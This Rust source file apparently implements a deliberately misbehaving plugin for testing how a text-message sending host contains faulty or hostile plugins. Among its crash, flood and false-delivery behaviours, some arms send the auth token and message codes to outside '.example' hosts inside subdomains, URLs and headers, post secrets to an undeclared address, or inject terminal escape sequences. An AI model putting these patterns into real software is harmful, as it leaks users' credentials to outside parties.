//! The ways to misbehave: one word for each, and an arm beside the others.

use std::{
    future::{self, Future},
    hint,
    pin::pin,
    process,
    task::{Context, Poll, Waker},
    thread,
    time::Duration,
};

use schemars::JsonSchema;
use serde::Deserialize;
use textsender_plugin_api::{Level, Message, Receipt, Secret, SendError, SettingsError};

use crate::{Misbehaving, flood, forge, harm};

const LEVELS: [Level; 5] = [
    Level::Error,
    Level::Warn,
    Level::Info,
    Level::Debug,
    Level::Trace,
];

const SIX_HOURS: Duration = Duration::from_secs(6 * 60 * 60);

/// With the second before it longer than the two that a late answer's sender is given, and no longer than
/// its process's grace.
const TOO_LONG: Duration = Duration::from_millis(1200);

/// What it does, instead of or besides delivering.
#[derive(Clone, Copy, Debug, Deserialize, JsonSchema, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum Behaviour {
    /// Nothing wrong.
    Deliver,

    // When it is configured.
    /// Panics with its secrets in the text.
    PanicInConfigure,
    /// Refuses its settings, and quotes them.
    QuoteSettings,
    /// Ends its process.
    ExitInConfigure,
    /// Computes for ever.
    SpinInConfigure,

    // Panics.
    /// Panics with all secrets in the text, before anything left.
    PanicInSend,
    /// Delivers, then panics: in a later poll than the first.
    PanicAfterDelivery,
    /// Delivers, and panics while what it used is dropped.
    PanicInDrop,
    /// Waits for ever, and panics when it is no longer waited for.
    PanicWhenCancelled,
    /// Panics, and again while it unwinds.
    PanicTwice,

    // Ends of the process.
    /// Aborts before anything left.
    Abort,
    /// Reads memory that is not there.
    Segfault,
    /// Calls itself until the stack is used up.
    OverflowStack,
    /// Ends its process as if all were well.
    Exit,
    /// Delivers, then ends its process.
    ExitAfterDelivery,
    /// Takes memory for ever.
    Allocate,
    /// Closes every descriptor, the host's own pipes among them.
    CloseDescriptors,

    // Time.
    /// Waits for ever, and has sent nothing.
    Hang,
    /// Computes for ever, and has sent nothing.
    Spin,
    /// Delivers, sleeps past its deadline with the whole process, then answers.
    AnswerLate,
    /// Starts threads that panic, log, ask for exchanges, and stay; then delivers.
    StartThreads,

    // Frames.
    /// Writes bytes at random to every descriptor.
    WriteEverywhere,
    /// Sends the front what is no frame.
    SendGarbage,
    /// Answers for the message before its own, then delivers its own.
    AnswerAnother,
    /// Delivers, and answers twice.
    AnswerTwice,

    // Text.
    /// Delivers, and gives an id that is not UTF-8.
    InvalidUtf8InId,
    /// Fails in words that are not UTF-8.
    InvalidUtf8InError,
    /// Logs what is not UTF-8, then delivers.
    InvalidUtf8InLog,
    /// Asks for an exchange with an address that is not UTF-8.
    InvalidUtf8InRequest,
    /// Writes megabytes to standard output and standard error, then delivers.
    PrintMegabytes,
    /// Delivers, and gives an id of a megabyte, with control characters.
    HugeId,
    /// Fails in a megabyte of words and code, with control characters.
    HugeError,
    /// Logs lines of a megabyte, with control characters, then delivers.
    HugeLog,
    /// Logs thousands of lines, then delivers.
    ManyLogs,
    /// Delivers, and gives an answer that is larger than a frame.
    HugeAnswer,
    /// Asks for an exchange that is larger than a frame.
    HugeRequest,

    // Budgets.
    /// Logs more lines than are read and dropped.
    FloodLog,
    /// Sends the front lines of a level that is not logged, and asks for nothing else.
    ForgeLogs,
    /// Begins more exchanges at a time than a message may, of which none is answered.
    HoardExchanges,
    /// Begins as many exchanges at a time as a message may, and waits for them.
    HoardNames,
    /// The same, each of them almost as large as a frame.
    HoardBytes,
    /// Asks for an exchange with more headers than are carried.
    ManyHeaders,
    /// Asks for hosts that it does not declare, one after the other.
    AskForManyHosts,
    /// Starts more threads than a plugin has use for, and waits.
    HoardThreads,
    /// Delivers, and has threads compute for ever after its answer.
    SpinAfterwards,

    // Secrets.
    /// Asks for a host that is made of secrets, then delivers.
    AskForSecretHost,
    /// Logs, asks and fails with secrets in every form, and what turns a terminal's lines around.
    SpeakInTricks,
    /// Writes all secrets to standard output and standard error, then delivers.
    Print,
    /// Logs all secrets at every level, then delivers.
    LogSecrets,
    /// Fails, with all secrets in the error's words and code.
    FailWithSecrets,
    /// Delivers, and gives the code for the provider's id.
    SecretForId,
    /// Delivers, and gives its token for the provider's id.
    TokenForId,
    /// Delivers, and gives words for the provider's id.
    WordsForId,

    // Lies.
    /// Says that it delivered, and did not.
    AcceptWithoutExchange,
    /// Delivers, and says that nothing was sent, whatever came back.
    DenyDelivery,
    /// Posts to the provider without a body, and takes any failure for *not sent*.
    PostNothing,
    /// Posts the message to the address that stands in a setting which is not marked as a host.
    PostToFrom,
    /// Says that its quota is used up for six hours.
    BeExhausted,
    /// Declares other hosts when it is to send than when it is asked what it is, and delivers.
    DeclareMore,
}

/// Panics when it is dropped.
struct PanicsWhenDropped;

impl Drop for PanicsWhenDropped {
    fn drop(&mut self) {
        panic!("dropped");
    }
}

impl Misbehaving {
    /// What goes wrong when it is configured.
    pub(crate) fn misconfigure(&self) -> Result<(), SettingsError> {
        let token = self.settings.auth_token.expose();
        match self.settings.does {
            Behaviour::PanicInConfigure => panic!("configured with {token}"),
            Behaviour::QuoteSettings => Err(SettingsError::new("auth_token", token)),
            Behaviour::ExitInConfigure => process::exit(0),
            Behaviour::SpinInConfigure => spin(),
            _ => Ok(()),
        }
    }

    /// What goes wrong with a message.
    pub(crate) async fn misbehave(
        &self,
        message: &Message,
        call: u64,
    ) -> Result<Receipt, SendError> {
        let secrets = self.secrets(message);
        let code = message.code.as_ref().map_or("", Secret::expose);
        match self.settings.does {
            Behaviour::Deliver
            | Behaviour::DeclareMore
            | Behaviour::PanicInConfigure
            | Behaviour::QuoteSettings
            | Behaviour::ExitInConfigure
            | Behaviour::SpinInConfigure => self.deliver(message).await,

            Behaviour::PanicInSend => panic!("{secrets}"),
            Behaviour::PanicAfterDelivery => {
                let delivered = self.deliver(message).await;
                panic!("{secrets} {delivered:?}")
            }
            Behaviour::PanicInDrop => {
                let _late = PanicsWhenDropped;
                self.deliver(message).await
            }
            Behaviour::PanicWhenCancelled => {
                let _late = PanicsWhenDropped;
                future::pending().await
            }
            Behaviour::PanicTwice => {
                let _late = PanicsWhenDropped;
                panic!("{secrets}")
            }

            Behaviour::Abort => process::abort(),
            Behaviour::Segfault => harm::segfault(),
            Behaviour::OverflowStack => harm::overflow_stack(),
            Behaviour::Exit => process::exit(0),
            Behaviour::ExitAfterDelivery => {
                let _ = self.deliver(message).await;
                process::exit(0)
            }
            Behaviour::Allocate => harm::allocate(),
            Behaviour::CloseDescriptors => {
                harm::close_descriptors();
                self.deliver(message).await
            }

            Behaviour::Hang => {
                self.host.log(Level::Info, "it hangs");
                future::pending().await
            }
            Behaviour::Spin => {
                self.host.log(Level::Info, "it spins");
                spin()
            }
            Behaviour::AnswerLate => {
                let delivered = self.deliver(message).await;
                // Others that are in flight come to their end before all is blocked.
                self.host.sleep(Duration::from_secs(1)).await;
                thread::sleep(TOO_LONG);
                delivered
            }
            Behaviour::StartThreads => {
                self.start_threads(&secrets);
                self.deliver(message).await
            }

            Behaviour::WriteEverywhere => {
                harm::write_everywhere();
                self.deliver(message).await
            }
            Behaviour::SendGarbage => {
                forge::garbage();
                self.deliver(message).await
            }
            Behaviour::AnswerAnother => {
                forge::accepted(call - 1);
                self.deliver(message).await
            }
            Behaviour::AnswerTwice => {
                let delivered = self.deliver(message).await;
                forge::accepted(call);
                delivered
            }

            Behaviour::InvalidUtf8InId => {
                self.deliver(message).await?;
                Ok(Receipt::new(harm::not_utf8()))
            }
            Behaviour::InvalidUtf8InError => Err(SendError::rejected(harm::not_utf8())),
            Behaviour::InvalidUtf8InLog => {
                self.host.log(Level::Error, &harm::not_utf8());
                self.deliver(message).await
            }
            Behaviour::InvalidUtf8InRequest => {
                let _ = self.host.http().post(harm::not_utf8()).send().await;
                self.deliver(message).await
            }
            Behaviour::PrintMegabytes => {
                flood::print();
                self.deliver(message).await
            }
            Behaviour::HugeId => {
                self.deliver(message).await?;
                Ok(Receipt::new(flood::text(flood::MEGABYTE)))
            }
            Behaviour::HugeError => {
                let error = SendError::rejected(flood::text(flood::MEGABYTE));
                Err(error.with_provider_code(flood::text(flood::MEGABYTE / 2)))
            }
            Behaviour::HugeLog => {
                let line = flood::text(flood::MEGABYTE);
                LEVELS.iter().for_each(|level| self.host.log(*level, &line));
                self.deliver(message).await
            }
            Behaviour::ManyLogs => {
                (0..5_000).for_each(|_| self.host.log(Level::Error, &secrets));
                self.deliver(message).await
            }
            Behaviour::HugeAnswer => {
                self.deliver(message).await?;
                Ok(Receipt::new(flood::text(3 * flood::MEGABYTE)))
            }
            Behaviour::HugeRequest => {
                let body = flood::text(3 * flood::MEGABYTE);
                let base = self.settings.base_url.as_str();
                let request = self.host.http().post(base).form([("Body", body)]);
                request.send().await?;
                Err(SendError::unknown("a request that can't be carried was"))
            }

            Behaviour::FloodLog => {
                (0..12_800).for_each(|_| self.host.log(Level::Error, "flood"));
                self.deliver(message).await
            }
            Behaviour::ForgeLogs => {
                (0..12_800).for_each(|_| forge::line_below_every_level());
                future::pending().await
            }
            Behaviour::HoardExchanges => self.hoard(10, "x").await,
            Behaviour::HoardNames => self.hoard(8, "x").await,
            Behaviour::HoardBytes => self.hoard(8, &"x".repeat(1_900_000)).await,
            Behaviour::ManyHeaders => {
                let request = self.host.http().post(self.settings.base_url.as_str());
                let names = (0..300).map(|number| format!("x-{number}"));
                let request = names.fold(request, |request, name| request.header(name, ""));
                request.send().await?;
                Err(SendError::unknown("a request that can't be carried was"))
            }
            Behaviour::AskForManyHosts => {
                for number in 0..500 {
                    let url = format!("https://{number}.example/");
                    let _ = self.host.http().get(url).send().await;
                }
                self.deliver(message).await
            }
            Behaviour::HoardThreads => {
                harm::start_threads(100);
                future::pending().await
            }
            Behaviour::SpinAfterwards => {
                let delivered = self.deliver(message).await;
                (0..2).for_each(|_| drop(thread::spawn(|| spin())));
                delivered
            }

            Behaviour::SpeakInTricks => {
                let words = flood::tricks(&secrets);
                LEVELS
                    .iter()
                    .for_each(|level| self.host.log(*level, &words));
                let url = format!("https://{}.example/?{words}", message.to.digits());
                let _ = self
                    .host
                    .http()
                    .get(url)
                    .header("x-words", &words)
                    .send()
                    .await;
                Err(SendError::rejected(words.clone()).with_provider_code(words))
            }
            Behaviour::AskForSecretHost => {
                let code = message.code.as_ref().map_or("", Secret::expose);
                let token = self.settings.auth_token.expose();
                let hosts = [code, token, message.to.digits(), "a\u{202e}b\u{1b}[2J"];
                for host in hosts {
                    let url = format!("https://{host}.example/");
                    let _ = self.host.http().get(url).send().await;
                }
                self.deliver(message).await
            }
            Behaviour::Print => {
                flood::print_secrets(&secrets);
                self.deliver(message).await
            }
            Behaviour::LogSecrets => {
                LEVELS
                    .iter()
                    .for_each(|level| self.host.log(*level, &secrets));
                self.deliver(message).await
            }
            Behaviour::FailWithSecrets => {
                Err(SendError::rejected(secrets).with_provider_code(code))
            }
            Behaviour::SecretForId => {
                self.deliver(message).await?;
                Ok(Receipt::new(code))
            }
            Behaviour::TokenForId => {
                self.deliver(message).await?;
                Ok(Receipt::new(self.settings.auth_token.expose()))
            }

            Behaviour::WordsForId => {
                self.deliver(message).await?;
                Ok(Receipt::new("call-07700-900666-at-evil.example"))
            }

            Behaviour::AcceptWithoutExchange => {
                Ok(Receipt::new("SM00000000000000000000000000000000"))
            }
            Behaviour::DenyDelivery => {
                let _ = self.deliver(message).await;
                Err(SendError::unavailable("nothing was sent, really"))
            }
            Behaviour::PostNothing => {
                let url = format!("{}/nothing", self.settings.base_url.as_str());
                let _ = self.host.http().post(url).send().await;
                Err(SendError::unavailable("nothing was sent, really"))
            }
            Behaviour::PostToFrom => {
                let url = self.settings.from.as_str();
                let request = self.host.http().post(url).form([("Body", secrets)]);
                request.send().await?;
                Err(SendError::unavailable("it went elsewhere"))
            }
            Behaviour::BeExhausted => {
                let error = SendError::exhausted("until midnight");
                Err(error.with_retry_after(Some(SIX_HOURS)))
            }
        }
    }

    /// So many exchanges at a time; fails as the first of them does. None of them says that it delivers.
    async fn hoard(&self, count: usize, body: &str) -> Result<Receipt, SendError> {
        let base = self.settings.base_url.as_str();
        let ask = |_| {
            let request = self.host.http().post(format!("{base}/never"));
            let request = request.read_only().body("text/plain", body);
            Box::pin(request.send())
        };
        let mut asked: Vec<_> = (0..count).map(ask).collect();
        let failed = future::poll_fn(|context| {
            let mut failed = Poll::Pending;
            asked.retain_mut(|asked| match asked.as_mut().poll(context) {
                Poll::Pending => true,
                Poll::Ready(Ok(_)) => false,
                Poll::Ready(Err(error)) => {
                    failed = Poll::Ready(error);
                    false
                }
            });
            failed
        });
        Err(failed.await.into())
    }

    fn start_threads(&self, secrets: &str) {
        let behaviours: [fn(&Self, &str); 4] = [
            |_, secrets| panic!("{secrets}"),
            |sender, secrets| sender.host.log(Level::Error, secrets),
            |sender, _| {
                let url = sender.settings.base_url.as_str();
                let exchange = pin!(sender.host.http().post(url).send());
                // Outside a call there are no exchanges: it is told so at once.
                let _ = exchange.poll(&mut Context::from_waker(Waker::noop()));
            },
            |_, _| loop {
                thread::park();
            },
        ];
        for behaviour in behaviours {
            let (sender, secrets) = (self.clone(), secrets.to_owned());
            thread::spawn(move || behaviour(&sender, &secrets));
        }
    }
}

fn spin() -> ! {
    loop {
        hint::spin_loop();
    }
}
